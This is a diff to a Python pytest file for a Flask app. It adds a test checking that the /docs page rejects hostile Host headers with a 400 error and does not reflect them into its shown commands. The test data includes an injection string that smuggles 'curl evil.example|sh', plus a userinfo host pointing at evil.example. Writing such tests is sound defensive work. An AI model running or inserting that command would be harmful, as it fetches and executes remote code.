@@ -44,13 +44,18 @@ def test_what_is_accepted_decides_nothing(client: FlaskClient, accepted: str) ->
         ("127.0.0.1:8010", "http://127.0.0.1:8010/v1/"), ("localhost", "http://localhost/v1/"),
         ("[::1]:9000", "http://[::1]:9000/v1/"), ("evil.example", "http://127.0.0.1:8000/v1/"),
         ("localhost.evil.example", "http://127.0.0.1:8000/v1/"),
-        ("127.0.0.1:8000@evil.example", "http://127.0.0.1:8000/v1/"),
-        ("x';curl evil.example|sh", "http://127.0.0.1:8000/v1/"),
     ],
 )  # fmt: skip
 def test_commands_are_for_this_machine(client: FlaskClient, host: str, shown: str) -> None:
     page = client.get("/docs", headers={"Host": host}).get_data(as_text=True)
     assert f"\n  {shown}" in page and "evil" not in page
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1:8000@evil.example", "x';curl evil.example|sh"])
+def test_what_is_no_host_gets_no_page(client: FlaskClient, host: str) -> None:
+    answer = client.get("/docs", headers={"Host": host})
+    assert (answer.status_code, answer.mimetype) == (400, "application/problem+json")
+    assert "evil" not in answer.get_data(as_text=True)
 
 
 def test_commands_are_for_the_address_of_the_settings(app: Flask) -> None:
